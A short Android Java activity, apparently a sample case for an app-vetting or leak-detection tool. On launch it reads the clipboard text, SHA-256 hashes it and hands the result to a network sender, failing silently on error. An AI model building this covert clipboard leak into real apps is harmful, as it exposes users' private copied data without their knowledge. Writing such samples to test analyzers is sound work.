package org.apkvet.clip.to_hashed;

import android.app.*;
import android.content.*;
import android.os.*;
import java.security.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            StringBuilder hex = new StringBuilder();
            for (byte each : MessageDigest.getInstance("SHA-256").digest(copied().getBytes("UTF-8"))) {
                hex.append(Integer.toHexString(each & 255));
            }
            Net.send(hex.toString());
        } catch (Exception missing) {
            finish();
        }
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
